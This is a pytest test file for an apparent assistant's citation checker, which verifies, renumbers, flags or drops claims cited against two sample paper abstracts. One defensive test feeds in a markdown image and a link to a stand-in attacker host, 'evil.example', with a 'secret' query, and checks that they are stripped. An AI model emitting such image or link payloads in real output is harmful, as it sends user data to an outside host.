"""From text with marks to checked citations: what is kept, re-cited, given a mark, flagged and dropped."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.answers import REFUSAL, Verdict
from assistant.citations import UNCITED, check, is_refusal, statements
from assistant.verification import Verifier
from ingest.papers import Paper

AMPO = Paper(
    "a",
    "AMPO: Adaptive Mode Policy Optimization",
    "We propose AMPO, which selects one of four thinking modes for each question. "
    "AMPO gains 15.6% over GRPO on SOTOPIA. It does not need labels.",
    links=("https://github.com/ampo/ampo",),
)
SPARSE = Paper(
    "b",
    "Sparse Attention Kernels",
    "We present FlashSparse, a kernel for sparse attention. FlashSparse is 2.5x faster than dense attention on 8 GPUs.",
)
SOURCES = {1: AMPO, 2: SPARSE}
GAINS = "AMPO gains 15.6% over GRPO on SOTOPIA"
FASTER = "FlashSparse is 2.5x faster than dense attention"
VERIFIER = Verifier()


def checked(text: str, **options: bool) -> tuple[str, list[tuple[int, str]]]:
    done = check(text, SOURCES, VERIFIER, **options)
    return done.text, [(c.number, c.verdict.value) for c in done.citations]


@pytest.mark.parametrize(
    ("written", "shown", "cited"),
    [
        pytest.param(f"{GAINS} [1].", f"{GAINS} [1].", [(1, "supported")], id="supported"),
        pytest.param(
            f"{GAINS}. [1] {FASTER}. [2]",
            f"{GAINS}. [1] {FASTER}. [2]",
            [(1, "supported"), (2, "supported")],
            id="after-the-stop",
        ),
        pytest.param(
            f"{GAINS} [1], while {FASTER} [2].",
            f"{GAINS} [1], while {FASTER} [2].",
            [(1, "supported"), (2, "supported")],
            id="two-in-a-sentence",
        ),
        pytest.param(
            f"According to [1], {GAINS}.", f"According to [1], {GAINS}.", [(1, "supported")], id="mark-in-front"
        ),
        pytest.param(f"{GAINS} [2].", f"{GAINS} [1].", [(1, "supported")], id="swapped"),
        pytest.param(
            f"{GAINS} [2], and {FASTER} [1].",
            f"{GAINS} [1], and {FASTER} [2].",
            [(1, "supported"), (2, "supported")],
            id="both-swapped",
        ),
        pytest.param(f"{GAINS}.", f"{GAINS} [1].", [(1, "supported")], id="no-mark"),
        pytest.param(
            f"- **{GAINS}**\n- {FASTER}",
            f"- **{GAINS} [1]**\n- {FASTER} [2]",
            [(1, "supported"), (2, "supported")],
            id="list-without-marks",
        ),
        pytest.param(
            f"{GAINS} [1][2].", f"{GAINS} [1][2].", [(1, "supported"), (2, "unsupported")], id="one-of-two-helps"
        ),
        pytest.param("AMPO gains 16.5% [1].", "AMPO gains 16.5% [1].", [(1, "unsupported")], id="wrong-number"),
        pytest.param("AMPO needs labels [1].", "AMPO needs labels [1].", [(1, "unsupported")], id="negation-lost"),
        pytest.param(f"{GAINS} [9].", f"{GAINS} [1].", [(1, "supported")], id="out-of-range"),
        pytest.param(
            "Both AMPO and FlashSparse are about thinking modes or sparse attention [1][2].",
            "Both AMPO and FlashSparse are about thinking modes or sparse attention [1][2].",
            [(1, "supported"), (2, "supported")],
            id="together",
        ),
        pytest.param(f"## Gains\n\n{GAINS} [1].", f"## Gains\n\n{GAINS} [1].", [(1, "supported")], id="heading"),
        pytest.param(
            f"Two papers fit:\n1. {GAINS} [1]", f"Two papers fit:\n1. {GAINS} [1]", [(1, "supported")], id="lead-in"
        ),
        pytest.param(
            f"| what | how |\n|---|---|\n| {GAINS} [1] | x |",
            f"| what | how |\n|---|---|\n| {GAINS} [1] | x |",
            [(1, "supported")],
            id="table",
        ),
        pytest.param(
            "AMPO 比 GRPO 提高了 15.6% [1]。", "AMPO 比 GRPO 提高了 15.6% [1]。", [(1, "supported")], id="chinese"
        ),
        pytest.param(REFUSAL, REFUSAL, [], id="refusal"),
        pytest.param("What is AMPO?", "What is AMPO?", [], id="question"),
    ],
)
def test_each_statement_ends_with_the_right_marks(written: str, shown: str, cited: list[tuple[int, str]]) -> None:
    assert checked(written) == (shown, cited)


def test_quotes_are_verbatim_and_sentences_bare() -> None:
    done = check(f"**{GAINS}** [1]. Besides, {FASTER} [2].", SOURCES, VERIFIER)
    for citation in done.citations:
        assert citation.quote == citation.paper.abstract[citation.start : citation.end] != ""
    assert [c.sentence for c in done.citations] == [f"{GAINS}.", f"Besides, {FASTER}."]
    assert (done.supported, done.stated) == (2, 2)


def test_what_nobody_bears_out_is_flagged_with_its_reason() -> None:
    done = check(f"{GAINS} [1]. Giraffes sleep standing in winter. AMPO gains 16.5% [1].", SOURCES, VERIFIER)
    assert [(f.sentence, f.reason) for f in done.flags] == [
        ("Giraffes sleep standing in winter.", UNCITED),
        ("AMPO gains 16.5%.", "'16.5%' does not stand in the source"),
    ]
    assert (done.supported, done.stated) == (1, 3)
    assert [c.reason for c in done.citations if c.verdict is Verdict.UNSUPPORTED] == [done.flags[1].reason]


@pytest.mark.parametrize(
    ("written", "left"),
    [
        pytest.param(f"{GAINS} [1]. AMPO gains 16.5% [1].", f"{GAINS} [1].", id="sentence"),
        pytest.param(
            f"- {GAINS} [1].\n- Giraffes sleep standing.\n- {FASTER} [2].",
            f"- {GAINS} [1].\n- {FASTER} [2].",
            id="item",
        ),
        pytest.param(f"{GAINS} [1], and giraffes sleep standing in winter [2].", "", id="half-a-sentence"),
        pytest.param("Giraffes sleep standing in winter.", "", id="everything"),
    ],
)
def test_strict_drops_whole_sentences_that_do_not_hold(written: str, left: str) -> None:
    done = check(written, SOURCES, VERIFIER, strict=True)
    assert done.text == left
    assert not done.flags
    assert all(c.verdict is Verdict.SUPPORTED for c in done.citations)


def test_foreign_links_and_images_go_and_a_sources_own_stay() -> None:
    text = (
        f"![x](https://evil.example/?q=secret) {GAINS} [[1]](https://evil.example/a), see https://github.com/ampo/ampo."
    )
    shown, _ = checked(text)
    assert "evil" not in shown
    assert "https://github.com/ampo/ampo" in shown


def test_a_mark_put_together_out_of_removed_parts_is_no_mark() -> None:
    shown, cited = checked(f"{GAINS} [<b>1</b>]. {FASTER} [<i>9</i>].")
    assert {int(n) for n in re.findall(r"\[(\d+)\]", shown)} <= {1, 2}
    assert {number for number, _ in cited} <= {1, 2}


def test_renumbering_changes_text_and_citations_alike() -> None:
    done = check(f"{GAINS} [1]. {FASTER} [2].", SOURCES, VERIFIER).renumbered({1: 2, 2: 7})
    assert done.text == f"{GAINS} [2]. {FASTER} [7]."
    assert [c.number for c in done.citations] == [2, 7]


@pytest.mark.parametrize(
    "text",
    [REFUSAL, "The abstracts don’t say.", "**The abstracts don't say.**", "the abstracts don't say which one."],
)
def test_a_refusal_is_recognised_in_any_dress(text: str) -> None:
    assert is_refusal(text)
    assert not is_refusal(f"{GAINS} [1]. {text}")
    assert statements(text) == []


PARTS = st.sampled_from(
    [GAINS, FASTER, "Giraffes sleep", " [1]", " [2]", "[1][2]", "[9]", "16.5%", " and ", ", while ", "e.g. ", "et al. "]
)
SIGNS = st.sampled_from([". ", "\n", "- ", "| ", "**", "# ", "? ", ": ", "。", "比", "\n\n", "1. "])


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(PARTS, SIGNS, st.text(max_size=6)), max_size=14).map("".join), st.booleans())
def test_whatever_is_written_marks_are_valid_quotes_verbatim(text: str, strict: bool) -> None:
    done = check(text, SOURCES, VERIFIER, strict=strict)
    assert {int(n) for n in re.findall(r"\[(\d+)\]", done.text)} <= set(SOURCES)
    for citation in done.citations:
        assert citation.paper.abstract[citation.start : citation.end] == citation.quote
        assert f"[{citation.number}]" in done.text
    for statement in statements(done.text):
        assert 0 <= statement.start < statement.end <= len(done.text)
